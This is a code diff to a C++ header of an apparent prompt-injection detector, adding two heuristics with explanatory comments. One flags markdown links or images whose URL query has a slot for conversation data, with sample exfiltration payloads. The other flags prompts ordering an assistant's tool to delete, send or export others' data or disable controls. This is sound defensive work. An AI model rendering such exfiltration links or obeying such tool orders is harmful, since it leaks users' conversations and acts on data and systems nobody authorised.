@@ -166,10 +166,32 @@ void QuotedAddressHeuristics(std::string_view text, const std::vector<Token>& to
 void RefusalSuppressionHeuristics(const std::vector<Token>& tokens, const std::vector<std::string>& words,
                                   const std::vector<WordClasses>& classes, std::vector<InjectionSpan>& out);
 
+// In a prompt, a markdown link or image whose URL has a slot for data in its
+// query ("![x](https://host/p?d={the user's previous message})",
+// "[ok](https://host/log?q=SUMMARY)", "?u={{email}}"): it asks for the
+// conversation's data to be written into a request to another host, which a
+// chat client makes when it renders the image (`exfiltration_link`, 0.85,
+// prompt injection). A slot is {..}, {{..}}, <..>, [..], $NAME, %s or a name
+// in capitals of four letters or more; a slot in the path ("/users/{id}") is
+// an API's documentation. Over the dev and training rows of round 18: 17
+// injection prompts, no benign prompt (in documents 26 planted and 5 benign,
+// security write-ups quoting the attack, so it is for prompts only).
+void ExfilLinkHeuristics(std::string_view text, std::vector<InjectionSpan>& out);
+
+// In a prompt, a sentence that puts one of the assistant's tools to work
+// ("use the payment tool", "call the refund tool", "nutze das Ticket-Tool",
+// "используй инструмент базы данных") for an action with effect (delete,
+// send, export, transfer, change, disable, push ...) on other people's data
+// or everyone's ("all", "every", employees, customers ...) or on the system's
+// own controls (production, audit logs, admin roles, bank accounts, the
+// shell, salaries): `tool_order`, 0.8, prompt injection. "Use the calendar
+// tool to delete my 3pm meeting" names neither.
+void ToolOrderHeuristics(std::string_view text, const std::vector<Token>& tokens, std::vector<InjectionSpan>& out);
+
 // Every rule above, in the order InjectionGuard applies them, over one text
 // into `spans` (appended): phrase, character-distribution, role-marker and
 // document rules (for a prompt only where PromptMayHoldDocumentDirective), for a prompt the refusal-suppression
-// rule, the harmful-request pattern for prompt-sized texts (up to
+// tool-order and exfiltration-link rules, the harmful-request pattern for prompt-sized texts (up to
 // kHarmPatternMaxTokens tokens), then DowngradeQuotedMentions. The trainer
 // calls it too, so that the document combination is fitted on exactly the
 // spans the guard sees.
